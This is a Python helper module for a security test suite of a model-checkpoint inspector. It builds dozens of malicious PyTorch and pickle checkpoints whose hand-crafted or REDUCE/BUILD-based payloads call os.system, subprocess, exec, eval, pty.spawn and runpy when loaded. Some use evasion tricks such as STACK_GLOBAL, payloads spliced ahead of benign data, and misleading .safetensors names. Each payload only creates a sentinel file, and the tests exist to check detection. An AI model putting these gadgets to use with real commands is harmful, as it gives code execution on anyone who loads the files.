"""Builders for malicious checkpoints used by the security tests.

This is a helper module, not a test file.  Every builder has the signature
``builder(directory: Path, sentinel: Path) -> Path``: it writes one malicious
checkpoint (a file, or a folder for the sharded cases) under ``directory`` and
returns the path to hand to ``avdiag inspect``.  Each payload, if it were ever
executed by an unpickler, would create ``sentinel``; the tests assert that the
sentinel never appears.

The payloads are real.  Never load these files with ``pickle.load`` or
``torch.load(weights_only=False)`` inside the test suite.

``MALICIOUS`` lists ``(name, builder)`` pairs.  ``NAMES_GLOBAL`` is the subset
of case names (torch zips whose data.pkl uses plain GLOBAL opcodes) for which
the error line is expected to name an offending global; ``unsafe_globals_in``
computes those names from the bytes with ``pickletools`` (nothing is ever
unpickled).  ``ASYNC_PAYLOADS`` are the cases whose payload would start a
child process without waiting for it.
"""

from __future__ import annotations

import builtins
import collections
import functools
import io
import json
import os
import pathlib
import pickle
import pickletools
import shlex
import struct
import subprocess
import sys
import tarfile
import types
import warnings
import zipfile
from pathlib import Path
from typing import Any, Callable

import torch
from torch import nn

Builder = Callable[[Path, Path], Path]

# --------------------------------------------------------------------------
# payload helpers
# --------------------------------------------------------------------------


def touch_command(sentinel: Path) -> str:
    """Shell command that creates the sentinel."""
    return f"touch {shlex.quote(str(sentinel))}"


def touch_code(sentinel: Path) -> str:
    """Python source that creates the sentinel."""
    return f"open({str(sentinel)!r}, 'w').close()"


class CallOnLoad:
    """Pickles as ``func(*args)``: the unpickler calls ``func`` (REDUCE)."""

    def __init__(self, func: Callable[..., Any], *args: Any) -> None:
        self.func = func
        self.args = args

    def __reduce__(self):
        return (self.func, self.args)


class EvilSetstate:
    """Plain class whose ``__setstate__`` (run by BUILD) creates the sentinel.

    It pickles as GLOBAL '<this module> EvilSetstate' + NEWOBJ + BUILD; the
    module is importable inside the test process, so a plain unpickler would
    really run the payload.
    """

    def __init__(self, sentinel: Path) -> None:
        self.path = str(sentinel)
        self.config = {"lr": 0.1, "epochs": 90}

    def __getstate__(self):
        return {"path": self.path, "config": self.config}

    def __setstate__(self, state):
        self.__dict__.update(state)
        with open(state["path"], "w"):
            pass


FAKE_MODULE = "avdiag_community_plugins_7f3a"


def _fake_module_class() -> tuple[types.ModuleType, type]:
    """A class living in a module that exists only while we pickle it."""
    module = types.ModuleType(FAKE_MODULE)

    def __setstate__(self, state):
        self.__dict__.update(state)
        with open(state["path"], "w"):
            pass

    cls = type("AugmentPolicy", (), {"__setstate__": __setstate__, "__module__": FAKE_MODULE})
    module.AugmentPolicy = cls
    return module, cls


# --------------------------------------------------------------------------
# benign material, built once per process
# --------------------------------------------------------------------------


def benign_state_dict() -> dict[str, torch.Tensor]:
    gen = torch.Generator().manual_seed(0)
    model = nn.Sequential(nn.Conv2d(3, 4, 3), nn.BatchNorm2d(4))
    with torch.no_grad():
        model[0].weight.copy_(torch.randn(model[0].weight.shape, generator=gen))
        model[1].running_var.fill_(1.0)
    return {k: v.detach().clone() for k, v in model.state_dict().items()}


def _benign_optimizer() -> dict[str, Any]:
    return {
        "state": {},
        "param_groups": [{"lr": 0.1, "momentum": 0.9, "weight_decay": 1e-4, "params": [0, 1, 2, 3]}],
    }


@functools.lru_cache(maxsize=None)
def benign_torch_zip_bytes() -> bytes:
    """``torch.save`` of the benign state dict into a buffer (records under ``archive/``)."""
    buf = io.BytesIO()
    torch.save(benign_state_dict(), buf)
    return buf.getvalue()


@functools.lru_cache(maxsize=None)
def benign_torchscript_bytes() -> bytes:
    model = nn.Sequential(nn.Conv2d(1, 2, 1), nn.BatchNorm2d(2)).eval()
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)  # torch.jit.* is deprecated in 2.13
        traced = torch.jit.trace(model, torch.zeros(1, 1, 3, 3))
        torch.jit.save(traced, buf)
    return buf.getvalue()


@functools.lru_cache(maxsize=None)
def benign_pt2_bytes() -> bytes:
    model = nn.Sequential(nn.Conv2d(1, 2, 1), nn.BatchNorm2d(2)).eval()
    exported = torch.export.export(model, (torch.zeros(1, 1, 3, 3),))
    buf = io.BytesIO()
    torch.export.save(exported, buf)
    return buf.getvalue()


def _zip_records(data: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return [(info.filename, zf.read(info.filename)) for info in zf.infolist()]


def _write_zip(path: Path, records: list[tuple[str, bytes]]) -> Path:
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_STORED) as zf:
        for name, data in records:
            zf.writestr(name, data)
    return path


def _record_with_suffix(records: list[tuple[str, bytes]], suffix: str) -> str:
    for name, _ in records:
        if name.endswith(suffix):
            return name
    raise KeyError(suffix)


def _torch_save(obj: Any, path: Path, **kwargs: Any) -> Path:
    torch.save(obj, path, **kwargs)
    return path


def _torch_save_bytes(obj: Any) -> bytes:
    buf = io.BytesIO()
    torch.save(obj, buf)
    return buf.getvalue()


# --------------------------------------------------------------------------
# hand-written pickle opcodes (protocol 2 unless noted)
# --------------------------------------------------------------------------

PROTO2 = b"\x80\x02"
MARK = b"("
STOP = b"."
POP = b"0"
REDUCE = b"R"
BUILD = b"b"
TUPLE = b"t"
TUPLE1 = b"\x85"
TUPLE2 = b"\x86"
EMPTY_TUPLE = b")"
EMPTY_DICT = b"}"
EMPTY_LIST = b"]"
SETITEM = b"s"
APPENDS = b"e"
STACK_GLOBAL = b"\x93"
MEMOIZE = b"\x94"
BINGET = b"h"


def op_global(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def op_str(text: str) -> bytes:
    data = text.encode("utf-8")
    return b"X" + struct.pack("<I", len(data)) + data


def op_short_str(text: str) -> bytes:
    data = text.encode("utf-8")
    assert len(data) < 256
    return b"\x8c" + bytes([len(data)]) + data


def op_bytes_p2(data: bytes) -> bytes:
    """Bytes the way protocol 2 writes them: _codecs.encode(str, 'latin1')."""
    return op_global("_codecs", "encode") + op_str(data.decode("latin1")) + op_str("latin1") + TUPLE2 + REDUCE


def splice_into(benign_pickle: bytes, evil_ops: bytes) -> bytes:
    """Run ``evil_ops`` (which push one value), POP it, then the benign pickle.

    The result unpickles to exactly the benign object, so a plain loader
    would succeed silently after running the payload.
    """
    assert benign_pickle[:2] == PROTO2, benign_pickle[:2]
    return PROTO2 + evil_ops + POP + benign_pickle[2:]


def ops_os_system(sentinel: Path) -> bytes:
    return op_global("os", "system") + op_str(touch_command(sentinel)) + TUPLE1 + REDUCE


def ops_import_getattr(sentinel: Path) -> bytes:
    # getattr(__import__('os'), 'system')('touch ...')
    return (
        op_global("builtins", "getattr")
        + MARK
        + op_global("builtins", "__import__")
        + op_str("os")
        + TUPLE1
        + REDUCE
        + op_str("system")
        + TUPLE
        + REDUCE
        + op_str(touch_command(sentinel))
        + TUPLE1
        + REDUCE
    )


def ops_runpy(sentinel: Path) -> bytes:
    # runpy._run_code(code, {}) -> exec(code, {})
    return op_global("runpy", "_run_code") + MARK + op_str(touch_code(sentinel)) + EMPTY_DICT + TUPLE + REDUCE


def ops_nested_pickle_loads(sentinel: Path) -> bytes:
    inner = pickle.dumps(CallOnLoad(subprocess.run, ["touch", str(sentinel)]), protocol=2)
    return op_global("pickle", "loads") + op_bytes_p2(inner) + TUPLE1 + REDUCE


def ops_shutil_copyfile(sentinel: Path) -> bytes:
    return op_global("shutil", "copyfile") + op_str(os.devnull) + op_str(str(sentinel)) + TUPLE2 + REDUCE


def ops_pty_spawn(sentinel: Path) -> bytes:
    argv = EMPTY_LIST + MARK + op_str("touch") + op_str(str(sentinel)) + APPENDS
    return op_global("pty", "spawn") + argv + TUPLE1 + REDUCE


def ops_build_setstate_hijack(sentinel: Path) -> bytes:
    # ns = types.SimpleNamespace(); BUILD {'__setstate__': os.system} stores the
    # function in ns.__dict__; the second BUILD finds it as ns.__setstate__ and
    # calls it with the state string.
    return (
        op_global("types", "SimpleNamespace")
        + EMPTY_TUPLE
        + REDUCE
        + EMPTY_DICT
        + op_str("__setstate__")
        + op_global("os", "system")
        + SETITEM
        + BUILD
        + op_str(touch_command(sentinel))
        + BUILD
    )


def ops_stack_global(sentinel: Path) -> bytes:
    # protocol 4 style: module and name come from the stack (and from the memo
    # the second time), which a GLOBAL-only scan does not see.
    return (
        op_short_str(os.system.__module__)
        + MEMOIZE
        + op_short_str("system")
        + MEMOIZE
        + STACK_GLOBAL
        + op_str(touch_command(sentinel))
        + TUPLE1
        + REDUCE
    )


def _hand_zip(directory: Path, filename: str, evil_ops: bytes) -> Path:
    """A torch zip whose data.pkl is replaced by a hand-written evil pickle.

    All other records (version, byteorder, storages, ...) come from a benign
    ``torch.save``; data.pkl still rebuilds the benign state dict afterwards.
    """
    records = _zip_records(benign_torch_zip_bytes())
    out = []
    for name, data in records:
        if name == "archive/data.pkl":
            data = splice_into(data, evil_ops)
        out.append((name, data))
    return _write_zip(directory / filename, out)


# --------------------------------------------------------------------------
# builders: torch.save zip
# --------------------------------------------------------------------------


def zip_nested_os_system(directory: Path, sentinel: Path) -> Path:
    checkpoint = {
        "model": benign_state_dict(),
        "optimizer": _benign_optimizer(),
        "epoch": 90,
        "meta": {"arch": "resnet18", "x": CallOnLoad(os.system, touch_command(sentinel))},
    }
    return _torch_save(checkpoint, directory / "checkpoint.pth")


def zip_only_subprocess_call(directory: Path, sentinel: Path) -> Path:
    return _torch_save(CallOnLoad(subprocess.call, ["touch", str(sentinel)]), directory / "model.pt")


def zip_list_exec(directory: Path, sentinel: Path) -> Path:
    obj = [benign_state_dict(), {"hook": CallOnLoad(builtins.exec, touch_code(sentinel))}]
    return _torch_save(obj, directory / "weights.pt")


def zip_tuple_eval(directory: Path, sentinel: Path) -> Path:
    obj = (benign_state_dict(), 17, CallOnLoad(builtins.eval, touch_code(sentinel)))
    return _torch_save(obj, directory / "weights.pth")


def zip_ordereddict_popen(directory: Path, sentinel: Path) -> Path:
    obj = collections.OrderedDict(benign_state_dict())
    obj["_metadata_hook"] = CallOnLoad(subprocess.Popen, ["touch", str(sentinel)])
    return _torch_save(obj, directory / "pytorch_model.bin")


def zip_custom_setstate(directory: Path, sentinel: Path) -> Path:
    checkpoint = {"state_dict": benign_state_dict(), "hyper_parameters": EvilSetstate(sentinel)}
    return _torch_save(checkpoint, directory / "last.ckpt")


def zip_fake_module(directory: Path, sentinel: Path) -> Path:
    module, cls = _fake_module_class()
    policy = cls()
    policy.path = str(sentinel)
    policy.magnitude = 9
    sys.modules[FAKE_MODULE] = module
    try:
        return _torch_save({"model": benign_state_dict(), "augment": policy}, directory / "model.pt")
    finally:
        del sys.modules[FAKE_MODULE]


def zip_pathlib_touch(directory: Path, sentinel: Path) -> Path:
    # protocol 2 cannot name 'Path.touch' directly: pickle emits the
    # builtins.getattr(pathlib.Path, 'touch') gadget.
    obj = {"model": benign_state_dict(), "x": CallOnLoad(pathlib.Path.touch, pathlib.Path(sentinel))}
    return _torch_save(obj, directory / "model.pth")


def zip_os_popen(directory: Path, sentinel: Path) -> Path:
    obj = {"model": benign_state_dict(), "cb": CallOnLoad(os.popen, touch_command(sentinel))}
    return _torch_save(obj, directory / "model.pt")


def zip_functools_partial(directory: Path, sentinel: Path) -> Path:
    bound = functools.partial(os.system, touch_command(sentinel))
    obj = {"model": benign_state_dict(), "cb": CallOnLoad(bound)}
    return _torch_save(obj, directory / "model.pt")


def zip_named_safetensors(directory: Path, sentinel: Path) -> Path:
    obj = {"model": benign_state_dict(), "x": CallOnLoad(os.system, touch_command(sentinel))}
    return _torch_save(obj, directory / "model.safetensors")


# --------------------------------------------------------------------------
# builders: legacy (non-zip) torch format
# --------------------------------------------------------------------------


def legacy_nested_os_system(directory: Path, sentinel: Path) -> Path:
    checkpoint = {
        "model": benign_state_dict(),
        "optimizer": _benign_optimizer(),
        "meta": {"x": CallOnLoad(os.system, touch_command(sentinel))},
    }
    return _torch_save(checkpoint, directory / "legacy.pth", _use_new_zipfile_serialization=False)


def legacy_only_subprocess_run(directory: Path, sentinel: Path) -> Path:
    obj = CallOnLoad(subprocess.run, ["touch", str(sentinel)])
    return _torch_save(obj, directory / "legacy.pt", _use_new_zipfile_serialization=False)


def legacy_tar_storages(directory: Path, sentinel: Path) -> Path:
    """Very old torch .tar format: the 'storages' member is unpickled first."""
    path = directory / "model.tar"
    sys_info = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 8}}
    members = {
        "sys_info": pickle.dumps(sys_info, protocol=2),
        "storages": pickle.dumps(CallOnLoad(os.system, touch_command(sentinel)), protocol=2),
        "tensors": pickle.dumps(0, protocol=2),
        "pickle": pickle.dumps({"model": {}}, protocol=2),
    }
    with tarfile.open(path, "w:", format=tarfile.PAX_FORMAT) as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return path


# --------------------------------------------------------------------------
# builders: raw pickles with checkpoint names
# --------------------------------------------------------------------------


def _raw_pickle(path: Path, obj: Any, protocol: int) -> Path:
    path.write_bytes(pickle.dumps(obj, protocol=protocol))
    return path


def raw_pickle_p0_pt(directory: Path, sentinel: Path) -> Path:
    return _raw_pickle(directory / "model.pt", CallOnLoad(os.system, touch_command(sentinel)), 0)


def raw_pickle_p2_pt(directory: Path, sentinel: Path) -> Path:
    obj = {"state_dict": {}, "x": CallOnLoad(subprocess.check_call, ["touch", str(sentinel)])}
    return _raw_pickle(directory / "model.pt", obj, 2)


def raw_pickle_p4_pt(directory: Path, sentinel: Path) -> Path:
    return _raw_pickle(directory / "model.pt", CallOnLoad(builtins.exec, touch_code(sentinel)), 4)


def raw_pickle_p5_pt(directory: Path, sentinel: Path) -> Path:
    # protocol 5 names 'pathlib Path.touch' directly via STACK_GLOBAL
    obj = [CallOnLoad(pathlib.Path.touch, pathlib.Path(sentinel))]
    return _raw_pickle(directory / "model.pt", obj, 5)


def raw_pickle_bin(directory: Path, sentinel: Path) -> Path:
    obj = CallOnLoad(subprocess.Popen, ["touch", str(sentinel)])
    return _raw_pickle(directory / "pytorch_model.bin", obj, 2)


def raw_pickle_safetensors(directory: Path, sentinel: Path) -> Path:
    return _raw_pickle(directory / "model.safetensors", CallOnLoad(os.system, touch_command(sentinel)), 4)


# --------------------------------------------------------------------------
# builders: torch zip with a hand-written data.pkl
# --------------------------------------------------------------------------


def handzip_os_system(directory: Path, sentinel: Path) -> Path:
    return _hand_zip(directory, "model.pt", ops_os_system(sentinel))


def handzip_import_getattr(directory: Path, sentinel: Path) -> Path:
    return _hand_zip(directory, "model.pt", ops_import_getattr(sentinel))


def handzip_runpy(directory: Path, sentinel: Path) -> Path:
    return _hand_zip(directory, "model.bin", ops_runpy(sentinel))


def handzip_nested_pickle_loads(directory: Path, sentinel: Path) -> Path:
    return _hand_zip(directory, "model.pth", ops_nested_pickle_loads(sentinel))


def handzip_shutil_copyfile(directory: Path, sentinel: Path) -> Path:
    return _hand_zip(directory, "model.ckpt", ops_shutil_copyfile(sentinel))


def handzip_pty_spawn(directory: Path, sentinel: Path) -> Path:
    return _hand_zip(directory, "model.pt", ops_pty_spawn(sentinel))


def handzip_build_setstate_hijack(directory: Path, sentinel: Path) -> Path:
    return _hand_zip(directory, "model.pt", ops_build_setstate_hijack(sentinel))


def handzip_stack_global(directory: Path, sentinel: Path) -> Path:
    return _hand_zip(directory, "model.pt", ops_stack_global(sentinel))


# --------------------------------------------------------------------------
# builders: sharded folders
# --------------------------------------------------------------------------


def _split_state_dict() -> tuple[dict[str, torch.Tensor], dict[str, torch.Tensor]]:
    sd = benign_state_dict()
    keys = sorted(sd)
    half = len(keys) // 2
    return {k: sd[k] for k in keys[:half]}, {k: sd[k] for k in keys[half:]}


def _write_index(folder: Path, index_name: str, shards: list[tuple[str, dict[str, torch.Tensor]]]) -> None:
    weight_map = {key: shard_name for shard_name, part in shards for key in part}
    total = sum(t.numel() * t.element_size() for _, part in shards for t in part.values())
    index = {"metadata": {"total_size": total}, "weight_map": weight_map}
    (folder / index_name).write_text(json.dumps(index, indent=2))


def sharded_bin_zip_shard(directory: Path, sentinel: Path) -> Path:
    folder = directory / "sharded_zip"
    folder.mkdir()
    part1, part2 = _split_state_dict()
    name1, name2 = "pytorch_model-00001-of-00002.bin", "pytorch_model-00002-of-00002.bin"
    torch.save(part1, folder / name1)
    evil = dict(part2)
    evil["__hook__"] = CallOnLoad(os.system, touch_command(sentinel))
    torch.save(evil, folder / name2)
    _write_index(folder, "pytorch_model.bin.index.json", [(name1, part1), (name2, part2)])
    (folder / "config.json").write_text(json.dumps({"model_type": "resnet", "num_channels": 3}))
    return folder


def sharded_bin_raw_pickle_shard(directory: Path, sentinel: Path) -> Path:
    folder = directory / "sharded_raw"
    folder.mkdir()
    part1, part2 = _split_state_dict()
    name1, name2 = "pytorch_model-00001-of-00002.bin", "pytorch_model-00002-of-00002.bin"
    (folder / name1).write_bytes(pickle.dumps(CallOnLoad(subprocess.call, ["touch", str(sentinel)]), protocol=2))
    torch.save(part2, folder / name2)
    _write_index(folder, "pytorch_model.bin.index.json", [(name1, part1), (name2, part2)])
    return folder


def sharded_safetensors_pickle_shard(directory: Path, sentinel: Path) -> Path:
    from safetensors.torch import save_file

    folder = directory / "sharded_st"
    folder.mkdir()
    part1, part2 = _split_state_dict()
    name1, name2 = "model-00001-of-00002.safetensors", "model-00002-of-00002.safetensors"
    save_file({k: v.contiguous() for k, v in part1.items()}, str(folder / name1))
    evil = dict(part2)
    evil["__hook__"] = CallOnLoad(builtins.exec, touch_code(sentinel))
    torch.save(evil, folder / name2)
    _write_index(folder, "model.safetensors.index.json", [(name1, part1), (name2, part2)])
    return folder


# --------------------------------------------------------------------------
# builders: TorchScript and torch.export archives
# --------------------------------------------------------------------------


def torchscript_data_pkl(directory: Path, sentinel: Path) -> Path:
    records = _zip_records(benign_torchscript_bytes())
    out = []
    for name, data in records:
        if name.endswith("/data.pkl"):
            data = splice_into(data, ops_os_system(sentinel))
        out.append((name, data))
    return _write_zip(directory / "scripted.pt", out)


def torchscript_constants_pkl(directory: Path, sentinel: Path) -> Path:
    records = _zip_records(benign_torchscript_bytes())
    out = []
    for name, data in records:
        if name.endswith("/constants.pkl"):
            data = splice_into(data, ops_import_getattr(sentinel))
        out.append((name, data))
    return _write_zip(directory / "traced.pt", out)


def _pt2_with(directory: Path, sentinel: Path, kind: str) -> Path:
    """Mimic torch.export.save's layout; one payload switched to use_pickle.

    torch.export.load() reads use_pickle payloads with
    ``torch.load(..., weights_only=False)``, so an evil torch.save'd object in
    ``data/weights/<name>`` runs on load.
    """
    records = _zip_records(benign_pt2_bytes())
    evil = _torch_save_bytes(CallOnLoad(os.system, touch_command(sentinel)))
    weights_cfg = _record_with_suffix(records, "data/weights/model_weights_config.json")
    prefix = weights_cfg[: -len("data/weights/model_weights_config.json")]
    by_name = dict(records)
    weights = json.loads(by_name[weights_cfg])
    out = list(records)
    if kind == "weight":
        fqn = "1.running_var"
        entry = weights["config"][fqn]
        entry["use_pickle"] = True
        evil_record = prefix + "data/weights/" + entry["path_name"]
        out = [(n, evil if n == evil_record else d) for n, d in out]
        out = [(n, json.dumps(weights).encode() if n == weights_cfg else d) for n, d in out]
    elif kind == "constant":
        constants_cfg = _record_with_suffix(records, "data/constants/model_constants_config.json")
        constants = json.loads(by_name[constants_cfg])
        meta = dict(next(iter(weights["config"].values())))
        meta.update(path_name="tensor_constant_0", is_param=False, use_pickle=True)
        constants["config"]["lifted_tensor_0"] = meta
        out = [(n, json.dumps(constants).encode() if n == constants_cfg else d) for n, d in out]
        out.append((prefix + "data/constants/tensor_constant_0", evil))
    else:
        raise ValueError(kind)
    return _write_zip(directory / "model.pt2", out)


def pt2_pickled_weight(directory: Path, sentinel: Path) -> Path:
    return _pt2_with(directory, sentinel, "weight")


def pt2_pickled_constant(directory: Path, sentinel: Path) -> Path:
    return _pt2_with(directory, sentinel, "constant")


# --------------------------------------------------------------------------
# registry
# --------------------------------------------------------------------------

MALICIOUS: list[tuple[str, Builder]] = [
    ("zip_nested_os_system", zip_nested_os_system),
    ("zip_only_subprocess_call", zip_only_subprocess_call),
    ("zip_list_exec", zip_list_exec),
    ("zip_tuple_eval", zip_tuple_eval),
    ("zip_ordereddict_popen", zip_ordereddict_popen),
    ("zip_custom_setstate", zip_custom_setstate),
    ("zip_fake_module", zip_fake_module),
    ("zip_pathlib_touch", zip_pathlib_touch),
    ("zip_os_popen", zip_os_popen),
    ("zip_functools_partial", zip_functools_partial),
    ("zip_named_safetensors", zip_named_safetensors),
    ("legacy_nested_os_system", legacy_nested_os_system),
    ("legacy_only_subprocess_run", legacy_only_subprocess_run),
    ("legacy_tar_storages", legacy_tar_storages),
    ("raw_pickle_p0_pt", raw_pickle_p0_pt),
    ("raw_pickle_p2_pt", raw_pickle_p2_pt),
    ("raw_pickle_p4_pt", raw_pickle_p4_pt),
    ("raw_pickle_p5_pt", raw_pickle_p5_pt),
    ("raw_pickle_bin", raw_pickle_bin),
    ("raw_pickle_safetensors", raw_pickle_safetensors),
    ("handzip_os_system", handzip_os_system),
    ("handzip_import_getattr", handzip_import_getattr),
    ("handzip_runpy", handzip_runpy),
    ("handzip_nested_pickle_loads", handzip_nested_pickle_loads),
    ("handzip_shutil_copyfile", handzip_shutil_copyfile),
    ("handzip_pty_spawn", handzip_pty_spawn),
    ("handzip_build_setstate_hijack", handzip_build_setstate_hijack),
    ("handzip_stack_global", handzip_stack_global),
    ("sharded_bin_zip_shard", sharded_bin_zip_shard),
    ("sharded_bin_raw_pickle_shard", sharded_bin_raw_pickle_shard),
    ("sharded_safetensors_pickle_shard", sharded_safetensors_pickle_shard),
    ("torchscript_data_pkl", torchscript_data_pkl),
    ("torchscript_constants_pkl", torchscript_constants_pkl),
    ("pt2_pickled_weight", pt2_pickled_weight),
    ("pt2_pickled_constant", pt2_pickled_constant),
]

# Torch zips whose data.pkl reaches the offending global through a plain
# GLOBAL opcode: torch.serialization.get_unsafe_globals_in_checkpoint lists it
# (torch.save cases) or the weights-only unpickler's error names it (handzip
# cases, whose POP opcode makes torch's static scan give up).  For these the
# error line must name an offending global.  Left out on purpose: legacy / raw
# pickles (not zips), TorchScript (torch refuses to scan it), .pt2 (the pickle
# is nested one level down), the sharded folders (the offender is in one
# shard) and handzip_stack_global (STACK_GLOBAL is unsupported by both torch
# scanners, so torch never sees the name).
NAMES_GLOBAL: frozenset[str] = frozenset(
    {
        "zip_nested_os_system",
        "zip_only_subprocess_call",
        "zip_list_exec",
        "zip_tuple_eval",
        "zip_ordereddict_popen",
        "zip_custom_setstate",
        "zip_fake_module",
        "zip_pathlib_touch",
        "zip_os_popen",
        "zip_functools_partial",
        "zip_named_safetensors",
        "handzip_os_system",
        "handzip_import_getattr",
        "handzip_runpy",
        "handzip_nested_pickle_loads",
        "handzip_shutil_copyfile",
        "handzip_pty_spawn",
        "handzip_build_setstate_hijack",
    }
)


# Payloads that start a child process without waiting for it: give them a
# moment before concluding the sentinel was not created.
ASYNC_PAYLOADS: frozenset[str] = frozenset({"zip_ordereddict_popen", "zip_os_popen", "raw_pickle_bin"})


# --------------------------------------------------------------------------
# static inspection helpers (never unpickle anything)
# --------------------------------------------------------------------------

_STRING_OPS = {"STRING", "BINSTRING", "SHORT_BINSTRING", "UNICODE", "BINUNICODE", "SHORT_BINUNICODE", "BINUNICODE8"}


def _globals_in_one_pickle(stream: io.BytesIO, found: set[str]) -> bool:
    """Scan one pickle from ``stream``; False when it is not a (complete) pickle."""
    strings: list[Any] = []
    memo: dict[int, Any] = {}
    last: Any = None
    try:
        for opcode, arg, _pos in pickletools.genops(stream):
            name = opcode.name
            if name == "GLOBAL":
                module, _, attr = str(arg).partition(" ")
                found.add(f"{module}.{attr}")
                last = None
            elif name in _STRING_OPS:
                last = arg
                strings.append(arg)
            elif name == "MEMOIZE":
                memo[len(memo)] = last
            elif name in {"PUT", "BINPUT", "LONG_BINPUT"}:
                memo[int(arg)] = last
            elif name in {"GET", "BINGET", "LONG_BINGET"}:
                last = memo.get(int(arg))
                strings.append(last)
            elif name == "STACK_GLOBAL":
                if len(strings) >= 2:
                    found.add(f"{strings[-2]}.{strings[-1]}")
                last = None
            else:
                last = None
    except Exception:  # truncated / not a pickle: keep what was seen
        return False
    return True


def pickle_globals(data: bytes) -> set[str]:
    """'module.name' of every GLOBAL / STACK_GLOBAL, via pickletools.

    Follows concatenated pickles (the legacy torch format writes several in a
    row, then raw storage bytes, which end the scan).
    """
    found: set[str] = set()
    stream = io.BytesIO(data)
    while stream.tell() < len(data) and _globals_in_one_pickle(stream, found):
        pass
    return found


def _torch_allowed() -> set[str]:
    try:
        from torch._weights_only_unpickler import _get_allowed_globals

        return set(_get_allowed_globals())
    except Exception:  # private API moved: fall back to a prefix rule
        return set()


def _is_tar(data: bytes) -> bool:
    return len(data) >= 512 and data[257:262] == b"ustar"


def unsafe_globals_in(path: Path) -> set[str]:
    """Globals outside torch's weights-only allow-list in every pickle under ``path``."""
    files = sorted(p for p in path.rglob("*") if p.is_file()) if path.is_dir() else [path]
    found: set[str] = set()

    def scan(data: bytes, depth: int = 0) -> None:
        nonlocal found
        if depth < 3 and zipfile.is_zipfile(io.BytesIO(data)):
            for name, record in _zip_records(data):
                if name.endswith(".pkl") or zipfile.is_zipfile(io.BytesIO(record)):
                    scan(record, depth + 1)
        elif depth < 3 and _is_tar(data):
            with tarfile.open(fileobj=io.BytesIO(data), mode="r:") as tar:
                for member in tar.getmembers():
                    extracted = tar.extractfile(member) if member.isfile() else None
                    if extracted is not None:
                        scan(extracted.read(), depth + 1)
        else:
            found |= pickle_globals(data)

    for file in files:
        scan(file.read_bytes())
    allowed = _torch_allowed()
    return {g for g in found if g not in allowed and not g.startswith("torch.")}
